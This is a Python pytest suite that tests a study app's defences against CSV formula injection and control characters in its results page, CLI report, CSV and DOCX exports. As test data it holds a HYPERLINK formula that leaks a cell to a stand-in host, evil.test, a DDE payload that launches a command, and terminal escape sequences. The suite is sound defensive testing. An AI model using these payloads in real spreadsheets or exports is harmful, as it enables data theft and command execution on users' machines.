"""Standing attacker suite: a study's results from hostile text (issue 37 item 5).

Attack: a reviewer writes control characters into a comment and a hard error (a terminal escape,
characters XML cannot hold), and an admin labels an arm with a spreadsheet formula
(`=HYPERLINK(...)`). Must hold, on the Results page (AppTest, real temp SQLite), in `lexspec
study report` and in its CSV and DOCX: the results show and are written (no error, no
traceback), no control character reaches the page, the terminal, the CSV or the DOCX, and no
CSV cell starts a formula (OWASP CSV injection: a cell starting with = + - @ tab or CR is
prefixed with a quote, a plain number is left as it is).
"""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import pytest
from docx import Document

from app.config import get_settings
from tests.conftest import acting, app_session
from tests.integration.test_pages_apptest import app_env, make_user, page_as  # noqa: F401

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("app_env")]

FORMULA_ARM = '=HYPERLINK("http://evil.test/x?"&A1,"查看")'
PLUS_ARM = "+cmd|' /C calc'!A0"
COMMENT = "引用有误\x01\x1b[31m红字\x1b[0m\x0b换行\x7f结束"
HARD_ERROR = "@SUM(1+1)\x08条号错误"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _controls(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) == "Cc" and c not in "\n"]


def _study() -> int:
    """Two arms named as formulas, one case, both drafts written and scored by `rita`."""
    from app.prompts import load_library
    from app.studies import service as studies
    from app.studies import store as review
    from app.studies.domain import ArmSpec, StudySpec, VerdictInput

    make_user("boss", "admin")
    make_user("rita", "reviewer")
    settings = get_settings()
    doc = load_library(settings.prompts_dir).types["cross-border-filing-guide"]
    arms = (ArmSpec(FORMULA_ARM, "embedded"), ArmSpec(PLUS_ARM, "embedded"))
    spec = StudySpec("hostile", doc.id, (doc.example_values(),), arms, ("rita",))
    with app_session() as session:
        study = studies.create_study(
            spec, session=session, settings=settings, actor=acting("boss", session=session)
        )
        for item in review.list_items(study.id, session=session):
            review.complete_item(
                item.id, session=session, text="一、适用情形\n正文。", generation_id=None
            )
        rita = acting("rita", session=session)
        for pair in studies.reviewer_queue(study.id, session=session, actor=rita):
            for draft in pair.drafts:
                verdict = VerdictInput(7, 6, 5, (HARD_ERROR,), COMMENT)
                studies.submit_verdict(draft.token, verdict, session=session, actor=rita)
    return study.id


def _results_page() -> None:
    from app.pages import results

    results.render()


def _report() -> object:
    from app.studies import service as studies

    with app_session() as session:
        return studies.results(
            _study(),
            settings=get_settings(),
            session=session,
            actor=acting("boss", session=session),
        )


def _cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data)) for cell in row]


def _safe_cell(cell: str) -> bool:
    if not cell.startswith(FORMULA_START):
        return True
    try:
        float(cell)  # a plain number (-0.500) is no formula
    except ValueError:
        return False
    return True


def test_attack_formula_arm_labels_and_control_characters_in_the_csv() -> None:
    from app.studies.report import report_csv, verdicts_csv

    report = _report()
    for data in (report_csv(report, "en"), verdicts_csv(report, "en")):  # type: ignore[arg-type]
        cells = _cells(data)
        assert all(_safe_cell(c) for c in cells), [c for c in cells if not _safe_cell(c)]
        assert not _controls(data.replace("\r\n", "\n"))
    cells = _cells(report_csv(report, "en"))  # type: ignore[arg-type]
    assert {c for c in cells if c.lstrip("'").startswith("=")} == {"'" + FORMULA_ARM}  # as text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.500", "-0.500"),  # a negative difference stays a number
        ("+3", "+3"),
        ("甲=乙", "甲=乙"),
        (3, "3"),
    ],
)
def test_a_csv_cell_never_starts_a_formula(value: object, cell: str) -> None:
    from app.studies.report import csv_cell

    assert csv_cell(value) == cell


def test_attack_control_characters_in_comments_reach_no_docx() -> None:
    from app.studies.report import report_docx

    data = report_docx(_report(), "en")  # type: ignore[arg-type]
    text = "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)
    assert "引用有误" in text and "红字" in text and "条号错误" in text
    assert not _controls(text)


def test_attack_the_results_page_shows_a_hostile_study() -> None:
    from tests.page_markdown import markdown_strings

    study_id = _study()
    with app_session() as session:
        boss = acting("boss", session=session)
    at = page_as(_results_page, boss)
    assert not at.exception, at.exception
    assert at.selectbox(key="results.pick").value == study_id
    assert len(at.get("download_button")) == 2
    cells = [str(v) for frame in at.dataframe for v in frame.value.to_numpy().ravel()]
    assert not _controls("".join(markdown_strings(at) + cells))
    assert any(FORMULA_ARM in c for c in cells)  # the arm's label, shown as the text it is


def test_attack_study_report_writes_every_file_without_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from app.cli import main

    study_id = _study()
    out = {name: tmp_path / name for name in ("r.csv", "v.csv", "r.docx")}
    code = main(
        ["study", "report", str(study_id), "--as", "boss", "--csv", str(out["r.csv"]),
         "--verdicts-csv", str(out["v.csv"]), "--docx", str(out["r.docx"]), "--lang", "en"]
    )  # fmt: skip
    printed = capsys.readouterr()
    assert code == 0, printed.err
    assert all(path.stat().st_size > 0 for path in out.values())
    assert not _controls(printed.out) and "Traceback" not in printed.err
    assert "\x1b" not in printed.out
